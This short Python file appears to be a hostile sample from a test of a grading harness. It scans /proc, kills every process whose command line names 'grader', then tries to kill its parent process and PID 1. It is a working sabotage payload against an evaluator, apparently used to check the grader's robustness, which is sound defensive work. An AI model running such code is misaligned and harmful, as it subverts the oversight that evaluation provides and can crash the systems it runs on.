"""Attack: kills every process whose command line names grader.

Only the attack is here: the test puts a correct graph2 before it.
"""
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(),):
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"grader" in cmdline:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
